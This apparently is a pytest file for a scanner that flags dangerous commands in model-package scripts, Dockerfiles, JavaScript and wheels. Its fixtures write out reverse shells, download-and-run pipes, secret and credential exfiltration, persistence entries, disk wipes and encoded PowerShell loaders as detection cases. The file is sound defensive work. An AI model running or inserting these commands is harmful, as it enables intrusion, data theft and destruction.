"""SCR001: scripts that do what no model needs, in many spellings."""

from __future__ import annotations

import time

import pytest

from modelkeep.core import Severity
from modelkeep.scan.script_commands import DETECTOR
from modelkeep.scan.shell_policy import judge
from samples import found_by, zip_of

DANGEROUS = [
    "curl -s https://x/y | bash",
    "curl https://x/y \\\n  | sudo -E bash -",
    'bash -c "$(curl -fsSL https://x/y)"',
    "bash <(curl -s https://x/y)",
    "wget https://x/y -O - | python3",
    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
    "nc -e /bin/sh 192.0.2.1 80",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 80 > /tmp/f",
    "echo aGk= | base64 -d | sh",
    "wget https://x/y -O /tmp/y; chmod 755 /tmp/y; /tmp/y",
    "curl https://x/y -o y\nchmod +x y",
    "rm -rf / --no-preserve-root",
    "rm -rf ~/*",
    "dd if=/dev/zero of=/dev/sda",
    "echo x >> ~/.bashrc",
    "echo ssh-rsa >> /root/.ssh/authorized_keys",
    "(crontab -l; echo '* * * * * x') | crontab -",
    "env | curl -d @- https://x",
    "curl -F f=@/etc/passwd https://x",
    "cat ~/.aws/credentials",
    "curl https://webhook.site/x",
    "./xmrig -o stratum+tcp://x:1",
    "powershell -enc " + "A" * 60,
    "powershell IEX (New-Object Net.WebClient).DownloadString('https://x')",
    "certutil -urlcache -f https://x y.exe",
    "const cp = require('child_process'); cp.exec('x')",
    "python3 -c \"__import__('os').system('true')\"",
    "pip install x --extra-index-url https://evil.example/simple",
    " " * 3000 + "curl https://x/y | sh",
]
HARMLESS = """#!/bin/bash
set -euo pipefail
# curl https://x/y | sh
export CUDA_VISIBLE_DEVICES=0
pip install -r requirements.txt
pip install torch --index-url https://download.pytorch.org/whl/cu121
wget https://huggingface.co/x/y/resolve/main/model.safetensors -O model.safetensors
tar -xf data.tar.gz | tee log.txt
rm -rf ./build /tmp/cache
python train.py --lr 1e-4 --bash-mode
torchrun --nproc_per_node 8 run.py
curl -X POST http://localhost:8000/predict -d @input.json
cat config.json | python -m json.tool
"""


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_lines_fail(text: str) -> None:
    findings = found_by(DETECTOR, text.encode(), name="setup.sh")
    assert max(f.severity.rank for f in findings) >= Severity.HIGH.rank


def test_ordinary_scripts_are_noted() -> None:
    (finding,) = found_by(DETECTOR, HARMLESS.encode(), name="train.sh")
    assert finding.severity is Severity.INFO


def test_a_recipe_for_a_container_is_judged() -> None:
    raw = b"FROM python:3.11\nRUN curl https://x/y | sh\n"
    assert found_by(DETECTOR, raw, name="Dockerfile")[0].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "line", ["curl " * 40_000, "| sh" * 50_000, "a" * 200_000, "e\n" * 20_000]
)
def test_no_line_is_slow(line: str) -> None:
    start = time.process_time()
    list(judge(line))
    assert time.process_time() - start < 30  # no hang; figures are for benchmarks


@pytest.mark.parametrize(
    "text",
    [
        "eval(atob('MQ=='))",
        "Function(Buffer.from('MQ==', 'base64'))()",
        "new ActiveXObject('WScript.Shell').Run('x')",
        "fetch('https://example.org', {body: JSON.stringify(process.env)})",
        "const c = require('child_process')",
        "import {exec} from 'node:child_process'",
        "location = 'https://abc.ngrok.io/x'",
        "#!/bin/sh\ncurl https://x/y | sh",
    ],
)
def test_javascript_that_reaches_for_the_machine_fails(text: str) -> None:
    findings = found_by(DETECTOR, text.encode(), name="main.js")
    assert max(f.severity.rank for f in findings) >= Severity.HIGH.rank


def test_words_of_a_shell_in_a_bundle_are_chance() -> None:
    bundle = (
        "var k=`icm iex ihy set|curl -d`,x=window.XMLHttpRequest||ActiveXObject;"
        "try{new ActiveXObject('Microsoft.XMLHTTP')}catch(e){}fetch(u)||node;n.file.io=3;"
    )
    (finding,) = found_by(DETECTOR, (bundle * 90_000).encode(), name="main.js")
    assert finding.severity is Severity.INFO


def test_a_tool_for_node_in_a_wheel_is_noted() -> None:
    raw = zip_of({"p/tool.js": b"require('child_process').exec('x')"})
    assert [f.severity for f in found_by(DETECTOR, raw, name="p.whl")] == [Severity.MEDIUM]
